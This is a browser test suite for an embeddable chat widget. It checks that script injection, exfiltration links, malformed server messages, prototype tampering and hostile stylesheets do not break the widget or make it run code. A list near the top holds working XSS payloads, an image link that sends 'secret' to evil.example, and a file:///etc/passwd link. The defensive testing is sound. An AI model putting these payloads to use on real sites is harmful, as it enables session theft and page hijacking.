import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { until, Widget } from '../lib/browser.mjs'
import { shops } from '../lib/shop.mjs'

const { shop, start, stop } = shops()
before(start)
after(stop)

const NASTY = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](java\nscript:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '![x](http://127.0.0.1:1/track.png)',
  '![x](https://evil.example/?q=secret)',
  '<svg onload="window.pwned=1"></svg>',
  '<a href="javascript:window.pwned=1">x</a>',
  '"><iframe srcdoc="<script>parent.pwned=1</script>">',
  '[x](https://ok.example" onclick="window.pwned=1)',
  '`<b>`', '| <i>a</i> | b |\n|---|---|\n| <img src=x onerror=pwned=1> | c |',
  '[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example)',
]

test('hostile text in every field stays text: no script, no request, no foreign node', async t => {
  const all = NASTY.join('\n\n')
  const x = NASTY[0] + NASTY[1]
  const { mock, page, w } = await shop(t, {
    title: x, greeting: all, hours: x, launcher: x, quick: [x, NASTY[2]], avatar: 'javascript:window.pwned=1', color: 'red;}*{display:none', zIndex: '1;}*{display:none',
    consent: { text: x, url: 'javascript:window.pwned=1' }, texts: { en: { hours: x } }, poweredBy: true,
  })
  mock.answer = () => ({ pieces: all.match(/[^]{1,40}/g), pause: 1, sources: [{ title: x, url: 'javascript:window.pwned=1' }, null, 7] })
  await w.open()
  await w.say(NASTY[0])
  await w.message('ai')
  await w.say(all)
  await until('two answers', async () => (await w.host.locator('[data-from=ai]').count()) === 2)
  mock.say(mock.last(), 'operator', all, { name: x })
  mock.say(mock.last(), 'system', all)
  await until('system', async () => (await w.host.locator('[data-from=system]').count()) === 1)
  const odd = await page.evaluate(() => {
    const ok = /^(A|ASIDE|B|BLOCKQUOTE|BR|BUTTON|CODE|DIV|EM|H2|HEADER|HR|I|LI|OL|P|PATH|PRE|S|SECTION|SPAN|STRONG|SVG|TABLE|TBODY|TD|TEXTAREA|TH|TIME|TR|UL)$/
    const bad = []
    for (const e of document.querySelector('haoke-chat').shadowRoot.querySelectorAll('*')) {
      if (!ok.test(e.tagName.toUpperCase())) bad.push(e.outerHTML.slice(0, 80))
      if (e.tagName === 'A' && !/^(https?:|mailto:|tel:)/.test(e.getAttribute('href'))) bad.push(e.outerHTML.slice(0, 80))
      for (const a of e.attributes) if (/^on/.test(a.name)) bad.push(a.name)
    }
    return bad
  })
  assert.deepEqual(odd, [])
  assert.equal(await page.evaluate(() => window.pwned), undefined)
  assert.deepEqual(mock.requests.filter(r => /track|evil/.test(r)), [])
  assert.ok(await w.launcher.isVisible())
})

const WRECK = () => {
  const boom = () => {
    throw new Error('the page has broken this')
  }
  for (const k of ['push', 'map', 'forEach', 'filter', 'join', 'slice', 'splice', 'indexOf', 'includes', 'find', 'some', 'every', 'concat', 'shift', 'sort', 'reduce']) Array.prototype[k] = boom
  Array.prototype.toJSON = Object.prototype.toJSON = String.prototype.toJSON = () => '"broken"'
  Array.prototype.extra = 1
  JSON.parse = JSON.stringify = boom
  window.WebSocket = boom
  window.setTimeout = window.clearTimeout = boom
}

const PAGE = (before, late = '') => `<!doctype html><title>t</title><script>${before}</script><script src="/widget.js" data-site="default"></script><script>${late}</script><body><p>page`

for (const [when, page] of [['before', PAGE(`(${String(WRECK).replace(/window\.setTimeout = .*$/m, '')})()`)], ['after', PAGE('', `(${WRECK})()`)]]) {
  test(`a page that overrides WebSocket, JSON and Array.prototype ${when} the widget loads`, async t => {
    const { w, mock } = await shop(t, {}, { path: '/wreck', pages: { '/wreck': page } })
    await w.launcher.click()
    await until('hello', () => mock.frames.some(f => f.type === 'hello' && f.page.url.endsWith('/wreck')))
    await w.host.locator('textarea').fill('Still here?')
    await w.host.locator('textarea').press('Enter')
    await until('message', () => mock.last()?.messages.length === 2)
    await w.host.locator('.x', { hasText: 'You said: Still here?' }).waitFor()
  })
}

test('a server that answers nonsense does not break the widget', async t => {
  const { mock, page, w } = await shop(t)
  let calm = false
  mock.on = (f, ws) => {
    if (calm) return false
    for (const s of ['', 'null', '7', '[]', '{}', '{"type":5}', '{"type":"ai"}', '{"type":"ai","seq":-1,"part":0,"data":"x"}', '{"type":"ai","seq":1,"part":5,"data":"x"}', '{"type":"ai","seq":1,"part":0,"data":{"a":1}}',
      '{"type":"message","seq":"1","from":"ai","text":"x"}', '{"type":"message","seq":1e300,"from":"ai","text":"x"}', '{"type":"message","seq":1.5}', '{"type":"ack","id":{},"seq":[]}', '{"type":"status","state":{},"mode":"evil","position":"many"}',
      '{"type":"error"}', '{"type":"welcome"}', '{"type":"welcome","settings":7,"seq":"x","mode":3,"token":{}}', '{"type":"unheard"}', '{'.repeat(1000)]) ws.send(s)
    ws.send(Buffer.from([1, 2, 3]))
    return true
  }
  await w.open()
  await page.waitForTimeout(800)
  calm = true
  mock.cut()
  await page.evaluate(() => dispatchEvent(new Event('online')))
  await w.say('Calm now?')
  assert.match(await w.message('ai'), /Calm now/)
  assert.deepEqual(page.errors.filter(e => !/WebSocket/.test(e)), [])
})

test('an answer of 100,000 characters streams without stalling the page', { timeout: 90_000 }, async t => {
  const { mock, page, w } = await shop(t)
  const long = 'A line of **words** that goes on and on. '.repeat(2500)
  mock.answer = () => ({ pieces: long.match(/[^]{1,200}/g), pause: 1 })
  await w.open()
  await page.evaluate(() => {
    window.worst = 0
    let last = performance.now()
    const tick = () => {
      const now = performance.now()
      window.worst = Math.max(window.worst, now - last)
      last = now
      requestAnimationFrame(tick)
    }
    tick()
  })
  await w.say('Long one, please')
  await until('the end', async () => (await w.host.locator('[data-from=ai]').count()) === 1, 60_000)
  assert.equal((await w.message('ai')).length, long.replaceAll('*', '').trim().length)
  t.diagnostic(`longest frame ${Math.round(await page.evaluate(() => window.worst))} ms`)
})

test('storage that throws, no crypto.randomUUID, a clock that is a year off', async t => {
  const { mock, page, w } = await shop(t, {}, { init: () => {
    const boom = { get() { throw new DOMException('no', 'SecurityError') } }
    Object.defineProperty(window, 'localStorage', boom)
    Object.defineProperty(window, 'sessionStorage', boom)
    crypto.randomUUID = undefined
    const now = Date.now
    Date.now = () => now() + 366 * 864e5
  } })
  await w.open()
  await w.say('Hi')
  assert.match(await w.message('ai'), /Hi/)
  await page.waitForTimeout(50)
  assert.match(await w.host.locator('[data-from=ai] time').getAttribute('datetime'), new RegExp('^' + new Date().getFullYear()))
  mock.cut()
  await w.say('Again')
  await until('resumed', () => mock.last().messages.length === 4)
  assert.equal(mock.conversations.size, 1)
})

test('hostile style sheets, removal of the node, two loads', async t => {
  const body = `<!doctype html><title>t</title><style>*{display:none!important;color:red!important;font-size:90px!important}haoke-chat{opacity:0!important;visibility:hidden!important;transform:scale(0)!important;pointer-events:none!important}html,body{display:block!important}</style>
    <script src="/widget.js"></script><script src="/widget.js"></script><body><p>x`
  const { page, w } = await shop(t, {}, { path: '/css', pages: { '/css': body } })
  await w.open()
  assert.equal(await page.locator('haoke-chat').count(), 1)
  assert.equal(await w.host.locator('h2').evaluate(e => getComputedStyle(e).fontSize), '14px')
  await page.evaluate(() => document.querySelector('haoke-chat').remove())
  await until('it is back', async () => (await page.locator('haoke-chat').count()) === 1)
  await page.evaluate(() => document.documentElement.replaceChildren(document.createElement('body')))
  await until('it is back again', async () => (await page.locator('haoke-chat').count()) === 1)
  await new Widget(page).say('Alive')
  assert.match(await w.message('ai'), /Alive/)
})

test('works under a policy without style-src, inside a frame', async t => {
  const csp = { 'content-security-policy': "default-src 'none'; script-src 'self'; connect-src 'self' ws:; frame-src 'self'; require-trusted-types-for 'script'" }
  const inner = { headers: csp, body: '<!doctype html><title>i</title><body><script src="/widget.js"></script>' }
  const { page, w } = await shop(t, {}, { path: '/strict', pages: { '/strict': inner, '/outer': '<!doctype html><iframe src="/strict" width=400 height=700></iframe>' } })
  await w.open()
  assert.equal(await w.panel.evaluate(e => getComputedStyle(e).width), '380px')
  await w.say('Strict')
  await w.host.locator('.x', { hasText: 'You said: Strict' }).waitFor()
  // Lazily loaded parts come in under Trusted Types too.
  await w.host.locator('.act').waitFor()
  // The panel was open in this tab, so it is open again in the frame.
  await page.goto(new URL('/outer', page.url()).href)
  const f = page.frameLocator('iframe')
  await f.locator('haoke-chat').locator('textarea').fill('Framed')
  await f.locator('haoke-chat').locator('textarea').press('Enter')
  await f.locator('haoke-chat').locator('.x', { hasText: 'You said: Framed' }).waitFor()
})
